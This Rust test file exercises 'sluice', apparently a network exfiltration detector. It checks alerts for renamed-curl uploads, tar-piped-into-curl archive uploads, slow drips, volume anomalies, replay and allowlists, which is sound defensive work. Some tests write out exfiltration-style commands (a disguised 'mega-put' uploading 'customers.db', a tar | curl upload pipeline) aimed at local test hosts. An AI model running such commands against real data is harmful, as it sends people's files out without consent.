//! Detection end to end on this host's kernel: real uploads to test hosts raise
//! the rules they should, a benign mix raises nothing, and record -> replay
//! through the real binary is deterministic.

use std::{
    process::Command,
    time::{Duration, Instant},
};

use serde_json::Value;
use sluice_tests::*;

const ALERTS: &[&str] = &["--tick", "1s", "--probe", "cgroup"];

#[test]
fn a_curl_renamed_mega_put_uploading_200_mb_raises_the_mega_rule_within_seconds() {
    require_root();
    let host = TestHost::create().unwrap();
    let dir = TempDir::new("mega");
    let tool = dir.0.join("mega-put");
    std::fs::copy("/usr/bin/curl", &tool).unwrap();
    let payload = dir.0.join("customers.db");
    // Sparse: 200 MB of zeros without writing them to disk.
    std::fs::File::create(&payload).unwrap().set_len(200 * MB).unwrap();
    let port = free_port();
    let sluice = Sluice::start(ALERTS).unwrap();
    let sink = Sink::start(Some(&host), "http", &host.peer_v4, port, &[]).unwrap();
    let started = Instant::now();
    let url = format!("http://{}:{}/upload", host.peer_v4, port);
    let pid = run_child(Command::new(&tool).args(["-sS", "-o", "/dev/null", "-T"]).arg(&payload).arg(&url), Duration::from_secs(120)).unwrap();
    sink.received().unwrap();
    let recs = sluice
        .wait_for("the Mega rule", Duration::from_secs(30), |r| !alerts_of(r, "sluice.exfil_tool_upload").is_empty())
        .unwrap();
    eprintln!("measured: Mega alert on stdout {:?} after the upload started", started.elapsed());
    let a = alerts_of(&recs, "sluice.exfil_tool_upload")[0].clone();
    let all = sluice.stop().unwrap();
    assert_eq!(a["process"]["pid"], pid);
    assert_eq!(a["process"]["name"], "mega-put");
    assert_eq!(a["destination"]["ip"], host.peer_v4.as_str());
    assert_eq!(a["threat"]["technique"]["id"][0], "T1567.002");
    assert_eq!(a["threat"]["framework"], "MITRE ATT&CK");
    assert!(a["sluice"]["bytes_out"].as_u64().unwrap() >= 5 * 1024 * 1024);
    let reason = a["event"]["reason"].as_str().unwrap();
    assert!(reason.starts_with(&format!("mega-put (pid {pid}, {})", tool.display())), "{reason}");
    // Renamed, it is not "curl" to the catalog: the name and where it sends give it away.
    assert!(a["sluice"]["indicators"].as_array().unwrap().iter().any(|i| i == "tool: MEGAcmd"), "{a}");
    assert_eq!(alerts_of(&all, "sluice.exfil_tool_upload").len(), 1, "deduplicated to one alert");
}

#[test]
fn tar_piped_into_curl_raises_archive_then_upload() {
    require_root();
    let host = TestHost::create().unwrap();
    let dir = TempDir::new("docs");
    let docs = dir.0.join("docs");
    std::fs::create_dir_all(&docs).unwrap();
    for i in 0..4 {
        std::fs::write(docs.join(format!("report-{i}.pdf")), incompressible(1_000_000, i + 7)).unwrap();
    }
    let port = free_port();
    let sluice = Sluice::start(ALERTS).unwrap();
    let sink = Sink::start(Some(&host), "http", &host.peer_v4, port, &[]).unwrap();
    let script = format!(
        "tar czf - -C {} docs | /usr/bin/curl -sS -o /dev/null -T - http://{}:{}/up",
        dir.0.display(),
        host.peer_v4,
        port
    );
    let shell = run_child(Command::new("/bin/sh").args(["-c", &script]), Duration::from_secs(60)).unwrap();
    assert!(sink.received().unwrap() > 3_900_000);
    let recs = sluice
        .wait_for("archive-then-upload", Duration::from_secs(20), |r| !alerts_of(r, "sluice.archive_then_upload").is_empty())
        .unwrap();
    sluice.stop().unwrap();
    let a = alerts_of(&recs, "sluice.archive_then_upload")[0];
    assert_eq!(a["process"]["name"], "curl");
    assert_eq!(a["process"]["parent"]["pid"], shell, "curl is the shell's child: {a}");
    let reason = a["event"]["reason"].as_str().unwrap();
    assert!(reason.contains("tar czf - -C") && reason.contains("same process tree"), "{reason}");
    let ids: Vec<&str> = a["threat"]["technique"]["id"].as_array().unwrap().iter().map(|v| v.as_str().unwrap()).collect();
    assert!(ids.contains(&"T1560.001"), "{ids:?}");
}

#[test]
fn a_benign_mix_raises_nothing() {
    require_root();
    let host = TestHost::create().unwrap();
    let dir = TempDir::new("benign");
    let big = dir.0.join("big.iso");
    std::fs::File::create(&big).unwrap().set_len(50 * MB).unwrap();
    // A backup tool on the allowlist, by basename.
    let rclone = dir.0.join("rclone");
    std::fs::copy("/usr/bin/curl", &rclone).unwrap();
    let config = dir.0.join("sluice.toml");
    std::fs::write(&config, "[detect]\nallow_executables = [\"rclone\"]\n").unwrap();
    let sluice = Sluice::start(&[ALERTS, &["--config", config.to_str().unwrap()]].concat()).unwrap();

    // 1. A large download: 50 MB in, almost nothing out.
    let port = free_port();
    let _server = http_server(host.command("/usr/bin/python3"), &host.peer_v4, port, &dir.0);
    let url = format!("http://{}:{}/big.iso", host.peer_v4, port);
    let downloaded = retry(Duration::from_secs(20), || fetch(Command::new("/usr/bin/curl"), &url));
    assert!(downloaded, "download from the test host failed");

    // 2. A local server answering big requests: the test host downloads from us.
    let port = free_port();
    let _local = http_server(Command::new("/usr/bin/python3"), &host.local_v4, port, &dir.0);
    let url = format!("http://{}:{}/big.iso", host.local_v4, port);
    let served = retry(Duration::from_secs(20), || fetch(host.command("/usr/bin/curl"), &url));
    assert!(served, "the test host could not download from us");

    // 3. git clone over HTTP from the test host (a few MB of history).
    let repo = dir.0.join("repo");
    let git = |args: &[&str], cwd: &std::path::Path| {
        let ok = Command::new("git").args(args).current_dir(cwd).env("GIT_AUTHOR_NAME", "t").env("GIT_AUTHOR_EMAIL", "t@t")
            .env("GIT_COMMITTER_NAME", "t").env("GIT_COMMITTER_EMAIL", "t@t").output().unwrap();
        assert!(ok.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&ok.stderr));
    };
    std::fs::create_dir_all(&repo).unwrap();
    git(&["init", "-q"], &repo);
    std::fs::write(repo.join("data.bin"), incompressible(4_000_000, 99)).unwrap();
    git(&["add", "."], &repo);
    git(&["commit", "-qm", "data"], &repo);
    git(&["clone", "-q", "--bare", "repo", "served.git"], &dir.0);
    git(&["update-server-info"], &dir.0.join("served.git"));
    let port = free_port();
    let _gitd = http_server(host.command("/usr/bin/python3"), &host.peer_v4, port, &dir.0);
    let url = format!("http://{}:{}/served.git", host.peer_v4, port);
    let clone_to = dir.0.join("clone");
    let cloned = retry(Duration::from_secs(20), || {
        let _ = std::fs::remove_dir_all(&clone_to);
        Command::new("git").args(["clone", "-q", &url]).arg(&clone_to).status().map(|s| s.success()).unwrap_or(false)
    });
    assert!(cloned, "git clone from the test host failed");

    // 4. The allowlisted backup tool uploading 50 MB.
    let port = free_port();
    let sink = Sink::start(Some(&host), "http", &host.peer_v4, port, &[]).unwrap();
    let url = format!("http://{}:{}/backup", host.peer_v4, port);
    run_child(Command::new(&rclone).args(["-sS", "-o", "/dev/null", "-T"]).arg(&big).arg(&url), Duration::from_secs(60)).unwrap();
    sink.received().unwrap();

    std::thread::sleep(Duration::from_secs(2));
    let recs = sluice.stop().unwrap();
    let alerts: Vec<&Value> = recs.iter().filter(|r| r["event"]["kind"] == "alert").collect();
    assert!(alerts.is_empty(), "benign activity raised alerts: {alerts:?}");
}


/// Write a record file: 30 simulated minutes of `backup.py` sending ~3 MB a
/// minute to one host, then (if `spike`) a minute of 64 MB.
fn synthetic_record(path: &std::path::Path, spike: bool) {
    let proc_ = serde_json::json!({
        "pid": 4000, "ppid": 1, "entity_id": "4000-1", "name": "python3",
        "executable": "/usr/bin/python3", "args": ["python3", "backup.py"], "uid": 1000, "ancestors": []
    });
    let mut lines = vec![serde_json::json!({"sluice_record": 1, "host": "replay-host", "backend": "cgroup"}).to_string()];
    let minutes = if spike { 31 } else { 30 };
    for i in 0..minutes {
        let bytes = if i == 30 { 64_000_000u64 } else { 3_000_000 + (i % 5) * 150_000 };
        lines.push(
            serde_json::json!({
                "t": 1_800_000_000.0 + 60.0 * (i + 1) as f64,
                "window_s": 60.0,
                "flows": [{
                    "process": proc_, "remote_ip": "203.0.113.9", "remote_port": 443, "transport": "tcp",
                    "direction": "egress", "scope": "public", "bytes_out": bytes, "bytes_in": 20_000
                }]
            })
            .to_string(),
        );
    }
    std::fs::write(path, lines.join("\n") + "\n").unwrap();
}

/// sluice has watched this host for 7 simulated hours (chronyd's trickle), then
/// `syncd` appears and, for 4 hours, sends `per_minute` bytes a minute to one
/// address: a drip far under every per-window bar.
fn drip_record(path: &std::path::Path, per_minute: u64) {
    let proc_ = |pid: u32, exe: &str, args: &[&str]| {
        serde_json::json!({
            "pid": pid, "ppid": 1, "entity_id": format!("{pid}-1"), "name": exe.rsplit('/').next().unwrap(),
            "executable": exe, "args": args, "uid": 1000, "ancestors": []
        })
    };
    let flow = |process: &Value, ip: &str, bytes: u64| {
        serde_json::json!({
            "process": process, "remote_ip": ip, "remote_port": 443, "transport": "tcp",
            "direction": "egress", "scope": "public", "bytes_out": bytes, "bytes_in": 2_000
        })
    };
    let chronyd = proc_(5, "/usr/sbin/chronyd", &["chronyd"]);
    let syncd = proc_(4100, "/opt/syncd/syncd", &["syncd", "--daemon"]);
    let t0 = 1_800_000_000.0;
    let mut lines = vec![serde_json::json!({"sluice_record": 1, "host": "replay-host", "backend": "cgroup"}).to_string()];
    lines.push(serde_json::json!({"t": t0, "window_s": 60.0, "flows": [flow(&chronyd, "192.0.2.1", 500)]}).to_string());
    for i in 0..4 * 60 {
        let t = t0 + 7.0 * 3600.0 + 60.0 * (i + 1) as f64;
        lines.push(serde_json::json!({"t": t, "window_s": 60.0, "flows": [flow(&syncd, "198.51.100.7", per_minute)]}).to_string());
    }
    std::fs::write(path, lines.join("\n") + "\n").unwrap();
}

#[test]
fn replay_of_a_slow_drip_over_hours_raises_the_drip_rule_once_and_half_of_it_nothing() {
    let dir = TempDir::new("drip");
    // 200 MB over 4 h: 833 KB a minute, under 2% of the 50 MiB anomaly floor.
    let drip = dir.0.join("drip.jsonl");
    drip_record(&drip, 200_000_000 / (4 * 60));
    let (alerts, _) = replay(&drip);
    assert_eq!(alerts.len(), 1, "one alert, then dedup: {alerts:?}");
    let a = &alerts[0];
    assert_eq!(a["rule"]["id"], "sluice.slow_drip", "{a}");
    assert_eq!(a["destination"]["ip"], "198.51.100.7");
    assert!(a["sluice"]["bytes_out"].as_u64().unwrap() >= 100 * 1024 * 1024, "{a}");
    assert!(a["event"]["reason"].as_str().unwrap().contains("without crossing any per-window bar"), "{a}");
    // When the long window's total crossed 100 MiB: ~2 h into the drip.
    let at = a["@timestamp"].as_str().unwrap();
    assert!(("2027-01-15T17:00".."2027-01-15T17:30").contains(&at), "fired at {at}");
    // Half the rate stays under the 100 MiB bar for the whole 4 h.
    let thin = dir.0.join("thin.jsonl");
    drip_record(&thin, 100_000_000 / (4 * 60));
    assert!(replay(&thin).0.is_empty());
}

#[test]
fn with_format_ocsf_an_upload_is_network_activity_and_its_alert_a_detection_finding() {
    require_root();
    let host = TestHost::create().unwrap();
    let dir = TempDir::new("ocsf");
    let tool = dir.0.join("mega-put");
    std::fs::copy("/usr/bin/curl", &tool).unwrap();
    let payload = dir.0.join("customers.db");
    std::fs::File::create(&payload).unwrap().set_len(50 * MB).unwrap();
    let port = free_port();
    let sluice = Sluice::start(&[ALERTS, &["--format", "ocsf", "--emit", "all"]].concat()).unwrap();
    let sink = Sink::start(Some(&host), "http", &host.peer_v4, port, &[]).unwrap();
    let url = format!("http://{}:{}/upload", host.peer_v4, port);
    let pid = run_child(Command::new(&tool).args(["-sS", "-o", "/dev/null", "-T"]).arg(&payload).arg(&url), Duration::from_secs(120)).unwrap();
    sink.received().unwrap();
    let finding = |r: &Value| r["class_uid"] == 2004 && r["actor"]["process"]["pid"] == pid && r["finding_info"]["analytic"]["uid"] == "sluice.exfil_tool_upload";
    sluice.wait_for("the finding", Duration::from_secs(30), |r| r.iter().any(finding)).unwrap();
    // stop() checks every record against the OCSF schema's class definitions.
    let recs = sluice.stop().unwrap();
    let f = recs.iter().find(|r| finding(r)).unwrap();
    assert_eq!(f["actor"]["user"]["name"], "root", "{f}");
    assert_eq!(f["finding_info"]["attacks"][0]["technique"]["uid"], "T1567.002");
    assert_eq!(f["evidences"][0]["dst_endpoint"]["ip"], host.peer_v4.as_str());
    assert!(f["message"].as_str().is_some_and(|m| m.starts_with("mega-put (pid")), "{f}");
    let sent: u64 = recs
        .iter()
        .filter(|r| r["class_uid"] == 4001 && r["actor"]["process"]["pid"] == pid && r["dst_endpoint"]["port"] == port)
        .map(|r| r["traffic"]["bytes_out"].as_u64().unwrap_or(0))
        .sum();
    assert_ratio("OCSF traffic.bytes_out of the upload", sent, 50 * MB, 0.99, 1.03);
    assert!(recs.iter().all(|r| r.get("class_uid").is_some()), "every record is OCSF");
}

fn replay(path: &std::path::Path) -> (Vec<Value>, String) {
    replay_as(path, &[])
}

fn replay_as(path: &std::path::Path, args: &[&str]) -> (Vec<Value>, String) {
    let out = Command::new(sluice_bin()).arg("replay").arg(path).args(args).output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(out.status.success(), "replay failed: {stderr}");
    let recs = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON ({e}): {l}")))
        .collect();
    (recs, stderr)
}

#[test]
fn replay_of_a_learned_history_then_a_twenty_x_upload_raises_the_anomaly_rule_only_then() {
    let dir = TempDir::new("replay");
    let spike = dir.0.join("spike.jsonl");
    let calm = dir.0.join("calm.jsonl");
    synthetic_record(&spike, true);
    synthetic_record(&calm, false);
    let (alerts, _) = replay(&spike);
    assert_eq!(alerts.len(), 1, "{alerts:?}");
    let a = &alerts[0];
    assert_eq!(a["rule"]["id"], "sluice.volume_anomaly");
    assert_eq!(a["host"]["name"], "replay-host");
    assert!(a["sluice"]["baseline"]["samples"].as_u64().unwrap() >= 20, "{a}");
    assert!(a["event"]["reason"].as_str().unwrap().contains("baseline is"), "{a}");
    assert_eq!(replay(&spike).0, alerts, "same file, same alerts");
    assert!(replay(&calm).0.is_empty(), "the history alone raises nothing");
    // In OCSF, the baseline is the finding's anomaly analysis.
    let (findings, _) = replay_as(&spike, &["--format", "ocsf"]);
    assert_eq!(findings.len(), 1);
    let f = &findings[0];
    assert_eq!(ocsf::violations(f), Vec::<String>::new(), "{f}");
    assert_eq!(f["finding_info"]["analytic"]["uid"], "sluice.volume_anomaly");
    assert!(f["anomaly_analyses"][0]["baselines"][0]["observations"][0]["count"].as_u64().unwrap() >= 20, "{f}");
}

#[test]
fn replay_rejects_a_corrupt_record_with_the_line_number() {
    let dir = TempDir::new("corrupt");
    let f = dir.0.join("bad.jsonl");
    std::fs::write(&f, "{\"sluice_record\":1,\"host\":\"h\",\"backend\":\"x\"}\n{\"t\": 5, \"window_s\": 1}\n{garbage\n").unwrap();
    let out = Command::new(sluice_bin()).arg("replay").arg(&f).output().unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("line 3") && err.contains("bad.jsonl"), "{err}");
}

#[test]
fn record_then_replay_reproduces_the_live_alerts() {
    require_root();
    let host = TestHost::create().unwrap();
    let dir = TempDir::new("record");
    let file = dir.0.join("session.jsonl");
    let tool = dir.0.join("megasync");
    std::fs::copy("/usr/bin/curl", &tool).unwrap();
    let payload = dir.0.join("x.bin");
    std::fs::File::create(&payload).unwrap().set_len(20 * MB).unwrap();
    let sluice = Sluice::record(&file, ALERTS).unwrap();
    let port = free_port();
    let sink = Sink::start(Some(&host), "http", &host.peer_v4, port, &[]).unwrap();
    let url = format!("http://{}:{}/", host.peer_v4, port);
    run_child(Command::new(&tool).args(["-sS", "-o", "/dev/null", "-T"]).arg(&payload).arg(&url), Duration::from_secs(60)).unwrap();
    sink.received().unwrap();
    sluice.wait_for("the live alert", Duration::from_secs(20), |r| !alerts_of(r, "sluice.exfil_tool_upload").is_empty()).unwrap();
    let live = sluice.stop().unwrap();
    let (replayed, _) = replay(&file);
    let strip = |v: &Value| {
        let mut v = v.clone();
        v["sluice"]["backend"] = Value::Null;
        v
    };
    let live_alerts: Vec<Value> = live.iter().filter(|r| r["event"]["kind"] == "alert").map(strip).collect();
    let replayed: Vec<Value> = replayed.iter().map(strip).collect();
    assert!(!live_alerts.is_empty());
    assert_eq!(live_alerts, replayed, "replay of the recording gives the live alerts");
}

#[test]
fn learned_baselines_survive_a_restart_and_a_corrupt_state_file_is_set_aside() {
    require_root();
    let host = TestHost::create().unwrap();
    let dir = TempDir::new("restart");
    let state = dir.0.join("state.json");
    let config = dir.0.join("fast.toml");
    // Two-second windows so baselines learn within the test.
    std::fs::write(&config, "[detect]\nshort_window = \"2s\"\n").unwrap();
    let args = ["--tick", "1s", "--probe", "cgroup", "--config", config.to_str().unwrap(), "--state", state.to_str().unwrap()];
    let sluice = Sluice::start(&args).unwrap();
    let port = free_port();
    let sink = Sink::start(Some(&host), "tcp", &host.peer_v4, port, &[]).unwrap();
    // ~6 s of a steady trickle: several closed windows to learn from.
    let script = "import socket,sys,time\ns=socket.create_connection((sys.argv[1],int(sys.argv[2])))\nfor i in range(30):\n    s.sendall(b'd'*100000); time.sleep(0.2)\ns.shutdown(1); s.recv(1)\n";
    run_child(Command::new("/usr/bin/python3").args(["-c", script, &host.peer_v4, &port.to_string()]), Duration::from_secs(60)).unwrap();
    sink.received().unwrap();
    std::thread::sleep(Duration::from_secs(3));
    sluice.stop().unwrap();
    let saved: Value = serde_json::from_slice(&std::fs::read(&state).expect("state written at shutdown")).unwrap();
    let models = saved["baselines"]["models"].as_object().unwrap().len();
    assert!(models > 0, "no baselines saved: {saved}");

    let again = Sluice::start(&args).unwrap();
    let err = again.stderr_text();
    again.stop().unwrap();
    assert!(err.contains(&format!("restored {models} baselines")), "{err}");

    std::fs::write(&state, b"{\"sluice_state\": 1, \"baselines\": tru").unwrap();
    let third = Sluice::start(&args).unwrap();
    let err = third.stderr_text();
    third.stop().unwrap();
    assert!(err.contains("is unusable") && err.contains(".corrupt-"), "{err}");
    let aside: Vec<_> = std::fs::read_dir(&dir.0).unwrap().flatten().filter(|e| e.file_name().to_string_lossy().contains(".corrupt-")).collect();
    assert_eq!(aside.len(), 1, "the corrupt file is kept aside, not deleted");
}

#[test]
fn an_allowlisted_cgroup_is_silent_and_the_same_tool_outside_it_is_not() {
    require_root();
    let host = TestHost::create().unwrap();
    let mounts = std::fs::read_to_string("/proc/self/mounts").unwrap();
    let cg2 = mounts.lines().find_map(|l| {
        let f: Vec<&str> = l.split_whitespace().collect();
        (f.get(2) == Some(&"cgroup2")).then(|| f[1].to_string())
    });
    let cg2 = cg2.expect("a cgroup v2 mount (the cgroup backend needs one anyway)");
    // Shaped like a containerd pod's scope.
    let name = format!("cri-containerd-sluicetest{}.scope", std::process::id());
    let cgdir = std::path::Path::new(&cg2).join(&name);
    std::fs::create_dir_all(&cgdir).unwrap();
    let dir = TempDir::new("allowcg");
    let tool = dir.0.join("megasync");
    std::fs::copy("/usr/bin/curl", &tool).unwrap();
    let payload = dir.0.join("x.bin");
    std::fs::File::create(&payload).unwrap().set_len(20 * MB).unwrap();
    let config = dir.0.join("allow.toml");
    // A whole path component: a substring of one ("sluicetest<pid>") no longer matches.
    std::fs::write(&config, format!("[detect]\nallow_cgroups = [\"{name}\"]\n")).unwrap();
    let sluice = Sluice::start(&[ALERTS, &["--config", config.to_str().unwrap()]].concat()).unwrap();

    let upload = |inside: bool| {
        let port = free_port();
        let sink = Sink::start(Some(&host), "http", &host.peer_v4, port, &[]).unwrap();
        let url = format!("http://{}:{}/", host.peer_v4, port);
        let enter = if inside { format!("echo $$ > {}/cgroup.procs && ", cgdir.display()) } else { String::new() };
        let script = format!("{enter}exec {} -sS -o /dev/null -T {} {url}", tool.display(), payload.display());
        let pid = run_child(Command::new("/bin/sh").args(["-c", &script]), Duration::from_secs(60)).unwrap();
        sink.received().unwrap();
        pid
    };
    let inside = upload(true);
    let outside = upload(false);
    sluice.wait_for("the outside alert", Duration::from_secs(20), |r| alerts_of(r, "sluice.exfil_tool_upload").iter().any(|a| a["process"]["pid"] == outside)).unwrap();
    let recs = sluice.stop().unwrap();
    let _ = std::fs::remove_dir(&cgdir);
    let tool_alerts = alerts_of(&recs, "sluice.exfil_tool_upload");
    assert!(tool_alerts.iter().all(|a| a["process"]["pid"] != inside), "the allowlisted container alerted: {tool_alerts:?}");
}
